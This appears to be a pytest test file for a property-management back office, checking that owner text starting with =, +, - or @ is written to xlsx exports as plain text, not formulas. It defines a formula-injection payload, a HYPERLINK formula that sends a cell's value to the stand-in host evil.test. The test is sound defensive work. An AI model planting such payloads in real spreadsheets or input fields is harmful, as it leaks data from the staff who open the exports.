"""Finding 2: owner text that starts with = (or +, -, @) is written to every xlsx export as text, never a formula:
报修工单.xlsx, 待完善.xlsx and the audit export all go through backoffice.exports.xlsx_bytes."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from backoffice.exports import xlsx_bytes
from tests.backoffice.helpers import staff_client
from workflows.audit.service import record_event
from workflows.community.models import Community
from workflows.db import transaction
from workflows.repairs.service import open_repair

FORMULA = '=HYPERLINK("http://evil.test/?"&B2,"点此查看")'


def _formulas(data: bytes) -> list[str]:
    """Cells stored as formulas, read from the sheet XML itself (<f> elements) and through openpyxl."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(data)).active
    typed = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return typed + (["<f>"] if "<f>" in xml or "<f " in xml else [])


def test_text_starting_with_a_formula_sign_is_stored_as_text() -> None:
    data = xlsx_bytes(["问题", "次数"], [[FORMULA, 3], ["+1+1", 1], ["-2", 1], ["@SUM(A1)", 1], ["正常的问题", 2]])
    assert _formulas(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == FORMULA and sheet["B2"].value == 3 and sheet["A3"].value == "+1+1"


async def test_repair_and_audit_exports_carry_owner_text_as_text(runtime) -> None:
    async with transaction(runtime.sessions) as session:
        community_id = await session.scalar(select(Community.id).where(Community.code == "YGHY"))
        await open_repair(session, community_id=community_id, openid="o-formula", category="水电",
                          description=FORMULA, auto_dispatch=False)
        record_event(session, entity_type="repair", entity_id=1, action="comment", actor="owner:o-formula",
                     community_id=community_id, reason=FORMULA)
    async with staff_client(runtime, "manager") as client:
        repairs = await client.page("/admin/repairs?format=xlsx&status=")
        audit = await client.page("/admin/audit?format=xlsx")
    for response in (repairs, audit):
        assert response.status_code == 200
        assert _formulas(response.content) == []
        values = [c.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
        assert FORMULA in values
